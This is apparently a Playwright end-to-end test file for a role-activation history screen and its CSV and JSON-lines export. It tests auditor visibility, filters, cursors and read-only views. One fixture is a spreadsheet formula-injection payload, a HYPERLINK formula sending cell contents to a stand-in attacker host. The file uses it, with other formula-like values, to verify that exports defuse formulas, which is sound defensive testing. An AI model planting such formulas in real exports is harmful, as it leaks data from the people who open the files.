import type { APIRequestContext, Page } from '@playwright/test';
import { readCsv } from '#e2e/fixtures/csv.ts';
import { expect } from '#e2e/fixtures/expect.ts';
import { screenRows } from '#e2e/fixtures/history-screen.ts';
import { test } from '#e2e/fixtures/people.ts';

const formula = '=HYPERLINK("https://evil.example/?"&A1,"open me"), "quoted"';

test.describe.configure({ mode: 'serial' });
test.beforeAll(({ tenant }) => tenant.reset());

/** The rows of the file newest first, as the screen has them; the file itself begins with the oldest. */
async function exported(door: APIRequestContext, query = ''): Promise<Record<string, string>[]> {
  const answer = await door.get(`/api/exports/history${query}`);
  expect(answer.status()).toBe(200);
  expect(answer.headers()['content-type']).toBe('text/csv; charset=utf-8');
  return readCsv(await answer.text()).reverse();
}

async function filters(page: Page, by: Record<string, string>): Promise<void> {
  for (const [label, text] of Object.entries(by)) {
    const field = page.getByLabel(label);
    if ((await field.evaluate((node) => node.tagName)) === 'SELECT') await field.selectOption(text);
    else await field.fill(text);
  }
  await page.getByRole('button', { name: 'Filter' }).click();
}

test('the auditor sees everybody’s rows, and the export equals the screen row by row', async ({
  ada,
  auden,
  bo,
  comes,
  cy,
}) => {
  await ada.activates(['Contributor, Staging'], { justification: formula, minutes: 30 });
  await ada.sees('Active now', 'Contributor, Staging');
  await ada.page.reload();
  await ada.activates(['Helpdesk Administrator, Directory'], {
    justification: 'Two lines:\nand "quotes", commas; semicolons',
    ticket: '-2+3',
    minutes: 45,
  });
  await ada.sees('Active now', 'Helpdesk Administrator, Directory');
  const hanna = await comes('hanna.berg');
  const cluster = 'Azure Kubernetes Service RBAC Cluster Admin';
  await hanna.activates([`${cluster}, aks-core`], { justification: 'Restart the ingress', minutes: 30 });
  await bo.denies(`Hanna Berg: ${cluster} on aks-core`, '@everyone reads this');
  await hanna.seesNoMore('Pending', `${cluster}, aks-core`);
  await expect(cy.card(`Hanna Berg: ${cluster} on aks-core`)).toHaveCount(0);

  const screen = await screenRows(auden.page);
  const file = await exported(auden.context.request);
  expect(screen.map(({ path }) => path)).toEqual(file.map(({ request }) => `/requests/${request}`));
  expect(file.map(({ person }) => person)).toEqual(expect.arrayContaining(['Ada Lind', 'Hanna Berg']));
  for (const [at, row] of file.entries()) {
    expect(screen[at]?.filedAt).toBe(row.filed_at);
    const shown = screen[at]?.text.toLowerCase();
    const who = [row.person, row.approver, row.decision, row.decision_justification];
    const what = [row.plane, row.role, row.scope, row.status, row.ticket, row.justification];
    for (const fact of [...who, ...what]) expect(shown).toContain(asShown(fact));
  }
});

/** A cell as the screen has it: without the mark that defuses formulas. */
function asShown(cell = ''): string {
  return cell.replace(/^'/, '').replaceAll(/\s+/g, ' ').toLowerCase();
}

test('no cell of the export is a formula to a spreadsheet', async ({ auden }) => {
  const file = await exported(auden.context.request);
  const row = file.find(({ justification = '' }) => justification.includes('HYPERLINK'));
  expect(row?.justification).toBe(`'${formula}`);
  expect(file.find(({ ticket = '' }) => ticket.includes('2+3'))?.ticket).toBe("'-2+3");
  expect(file.find(({ decision_justification: why = '' }) => why.includes('@everyone'))).toBeDefined();
  const cells = file.flatMap((one) => Object.values(one));
  expect(cells.filter((cell) => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
});

test('filters are in the URL, and screen and export follow them alike', async ({ auden }) => {
  await filters(auden.page, { Person: 'hanna', 'Role or scope': 'aks', Plane: 'azure', State: 'denied' });
  await auden.page.waitForURL(/\/history\?/);
  const { search, searchParams } = new URL(auden.page.url());
  expect(Object.fromEntries(searchParams)).toMatchObject({
    person: 'hanna',
    role: 'aks',
    plane: 'azure',
    status: 'denied',
  });
  await expect(auden.page.getByLabel('Person')).toHaveValue('hanna');
  const screen = await screenRows(auden.page, search);
  const file = await exported(auden.context.request, search);
  expect(screen.map(({ path }) => path)).toEqual(file.map(({ request }) => `/requests/${request}`));
  expect(new Set(file.map(({ person, status }) => `${person} ${status}`))).toEqual(
    new Set(['Hanna Berg Denied']),
  );

  await auden.page.getByRole('link', { name: 'Clear' }).click();
  await auden.page.waitForURL(/\/history$/);
  await filters(auden.page, { 'Role or scope': '100%_nothing' });
  await expect(auden.page.getByText('Nothing matches')).toBeVisible();
});

test('as JSON lines it is the same file, and either goes on after any of its lines', async ({ auden }) => {
  await auden.visits('/history?status=denied');
  const link = auden.page.getByRole('link', { name: 'Export JSON lines' });
  const denied = (await link.getAttribute('href')) ?? '';
  expect(denied).toBe('/api/exports/history?status=denied&format=jsonl');
  const door = auden.context.request;
  const linesAt = async (path: string) => {
    const answer = await door.get(path);
    expect(answer.headers()['content-type']).toBe('application/x-ndjson; charset=utf-8');
    return (await answer.text()).split('\n').filter(Boolean);
  };
  const parsed = (lines: string[]) => lines.map((line) => JSON.parse(line) as Record<string, string>);
  expect(new Set(parsed(await linesAt(denied)).map(({ status }) => status))).toEqual(new Set(['Denied']));

  const lines = await linesAt('/api/exports/history?format=jsonl');
  const rows = parsed(lines).reverse();
  const file = await exported(door);
  expect(rows.map(({ cursor }) => cursor)).toEqual(file.map(({ cursor }) => cursor));
  expect(rows.find(({ ticket = '' }) => ticket.includes('2+3'))?.ticket).toBe('-2+3');
  const after = `after=${parsed(lines)[0]?.cursor}`;
  expect(await linesAt(`/api/exports/history?format=jsonl&${after}`)).toEqual(lines.slice(1));
  const whole = await (await door.get('/api/exports/history')).text();
  const rest = await (await door.get(`/api/exports/history?${after}`)).text();
  expect(rest).not.toBe('');
  expect(whole.endsWith(`\r\n${rest}`)).toBe(true);

  const record = parsed(await linesAt('/api/exports/audit?action=history.exported'));
  // The last is this very reading of the record.
  expect(record.at(-2)).toMatchObject({ details: { format: 'csv', after: after.slice('after='.length) } });
});

test('an export that cannot go on from there says so, and never begins anew', async ({ auden }) => {
  for (const path of [
    ...['history?after=', 'history?after=yesterday', 'history?format=xml', 'audit?after=', 'audit?after=-1'],
    'history?after=2026-03-01T00:00:00.000Z_0d4b3a52',
  ]) {
    const answer = await auden.context.request.get(`/api/exports/${path}`);
    expect([path, answer.status()]).toEqual([path, 400]);
    expect(await answer.text()).toMatch(/names no place|csv or jsonl/);
  }
});

test('others see and export their own rows only, and no trace of who exported', async ({ ada }) => {
  const own = await screenRows(ada.page);
  const file = await exported(ada.context.request);
  expect(own.map(({ path }) => path)).toEqual(file.map(({ request }) => `/requests/${request}`));
  expect(new Set(file.map(({ person }) => person))).toEqual(new Set(['Ada Lind']));
  await expect(ada.page.getByLabel('Person')).toHaveCount(0);
  expect(await exported(ada.context.request, '?person=Hanna')).toEqual([]);
  for (const { path } of own.slice(0, 2)) {
    await ada.visits(path);
    await expect(ada.page.getByRole('main')).not.toContainText(/Auden|export/i);
  }
});

test('an auditor reads anybody’s story and can change nothing in it', async ({ auden }) => {
  const [row] = await screenRows(auden.page, '?person=Ada&status=active');
  await auden.visits(row?.path ?? '');
  await expect(auden.moment(/Ada Lind\s*asked for/)).toBeVisible();
  for (const name of ['Cancel', 'End now', 'Resume', 'Approve', 'Deny']) {
    await expect(auden.page.getByRole('button', { name })).toHaveCount(0);
  }
  await expect(auden.page.getByRole('link', { name: 'Ask again' })).toHaveCount(0);
});
